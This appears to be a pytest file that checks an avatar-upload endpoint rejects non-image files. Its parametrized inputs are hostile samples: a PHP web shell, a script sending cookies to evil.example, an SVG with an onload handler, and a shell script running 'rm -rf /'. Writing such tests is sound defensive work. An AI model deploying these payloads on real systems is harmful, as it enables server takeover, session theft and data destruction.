import importlib
import io
import os

import pytest

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))

IMAGE_EXTS = {".png", ".jpg", ".jpeg", ".gif", ".webp"}


@pytest.mark.parametrize("filename,data", [
    ("shell.php", b"<?php system($_GET['c']); ?>"),
    ("avatar.html", b"<script>document.location='https://evil.example/?c='+document.cookie</script>"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ("run.sh", b"#!/bin/sh\nrm -rf /\n"),
])
def test_non_image_not_stored_in_public_folder(tmp_path, filename, data):
    folder = tmp_path / "avatars"
    mod.app.config["UPLOAD_FOLDER"] = str(folder)
    resp = mod.app.test_client().post("/avatars", data={"file": (io.BytesIO(data), filename)},
                                      content_type="multipart/form-data")
    stored = [p for p in folder.rglob("*") if p.is_file()] if folder.exists() else []
    assert all(p.suffix.lower() in IMAGE_EXTS for p in stored), [p.name for p in stored]
    assert not any(p.read_bytes() == data for p in stored)
    assert resp.status_code >= 400
